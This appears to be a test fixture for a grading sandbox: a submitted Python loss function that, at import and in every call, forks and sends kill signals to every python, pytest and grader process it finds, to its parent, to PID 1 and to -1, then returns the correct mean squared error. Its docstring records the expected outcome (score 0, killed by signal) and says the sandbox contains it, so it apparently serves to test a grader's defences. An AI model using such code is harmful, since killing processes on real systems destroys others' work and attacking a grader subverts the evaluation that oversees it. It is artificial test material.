"""Tries to kill the grader: its parent, every python/pytest/graders process it sees, then -1.

It attacks from a forked process of its own, at import and in every call,
then would return the right loss. In its PID namespace it can neither see nor
signal the fork server, the grading process or its jail (root's); the one
process it can reach is its own check, which dies of it: that costs only its
own points, and every later submission is graded as usual.

checks: numpy_returns_float, torch_value
score: 0
hint: killed by signal
requires: process view
"""

import contextlib
import os
import signal
from pathlib import Path

import numpy as np
import torch


def _targets() -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if any(word in cmdline for word in (b"python", b"pytest", b"graders", b"zygote")):
            found.add(int(entry.name))
    return found


def _kill_everything() -> None:
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()  # its own group: what it kills last is itself
    for target in [*sorted(_targets()), -1, os.getppid(), 1, 0]:
        for signum in (signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(target, signum)
    os._exit(0)


_kill_everything()


def mse(y_pred, y):
    _kill_everything()
    if isinstance(y_pred, torch.Tensor):
        return ((y_pred - y) ** 2).mean()
    return float(np.mean((np.asarray(y_pred) - np.asarray(y)) ** 2))
